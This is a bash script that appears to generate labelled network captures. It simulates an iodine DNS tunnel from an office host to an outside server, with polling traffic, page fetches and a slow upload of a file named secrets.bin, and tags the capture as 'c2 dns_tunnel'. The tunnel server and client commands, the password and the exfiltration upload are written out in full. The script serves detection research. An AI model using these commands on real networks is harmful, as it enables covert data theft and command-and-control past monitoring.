#!/usr/bin/env bash
# iodine: IP over DNS through the office resolver, in real time for some eight minutes: idle polling, a remote look-around, a slow file transfer.
UC_HERE=$(cd "$(dirname "$0")" && pwd)
. "$UC_HERE/../lib.sh"
UC_BEGIN=2026-03-13T19:20:00Z
[ -c /dev/net/tun ] || { echo "iodine needs /dev/net/tun" >&2; exit 1; }
uc_start 800 curl nginx-light iodine
UC_SNAP=1600
uc_lan 10.60.3.1/24
uc_host nb14 10.60.3.14
uc_host nb15 10.60.3.15
uc_browse_sites
uc_outside 198.51.100.53
# The resolver sends the zone to its name server, as a delegation would.
echo "server=/t.tunnelworks.example/198.51.100.53" >> "$UC_WORK/dns.conf"
uc_up

uc_bg wan iodined -f -c -P mask4passage -l 198.51.100.53 10.99.0.1/24 t.tunnelworks.example
uc_wait "iodined" uc_in wan ip link show dns0
uc_bg nb14 iodine -f -r -P mask4passage 10.60.3.1 t.tunnelworks.example
uc_wait "the tunnel" uc_in nb14 ping -c1 -W2 10.99.0.1

# Real time: no schedule, only sleeps. The neighbour browses meanwhile.
uc_bg nb15 bash -c "{ for n in \$(seq 12); do sleep \$((20 + n * 7 % 30)); echo get https://en.openlexicon.example/page-\$n.html https://media.openlexicon.example/part-\$n.bin; done; echo close; sleep 3; } | python3 $UC_TOOLS/browser.py"
sleep 60
for n in 1 2 3 4 5 6; do uc_in nb14 curl -s -m 20 -o /dev/null "http://10.99.0.1/page-$n.html" || true; sleep $((9 + n * 4)); done
head -c 120000 /dev/urandom > "$UC_WORK/secrets.bin"
uc_in nb14 curl -s -m 150 --limit-rate 1200 -o /dev/null --data-binary "@$UC_WORK/secrets.bin" http://10.99.0.1/up/ || true
sleep 120
uc_in nb14 curl -s -m 20 -o /dev/null http://10.99.0.1/page-9.html || true
sleep 45

uc_finish "$(uc_versions iodine curl nginx-light dnsmasq-base tcpdump)" --shift-to "$UC_BEGIN" <<'LABELS'
10.60.3.14 tunnelworks.example c2 dns_tunnel
LABELS
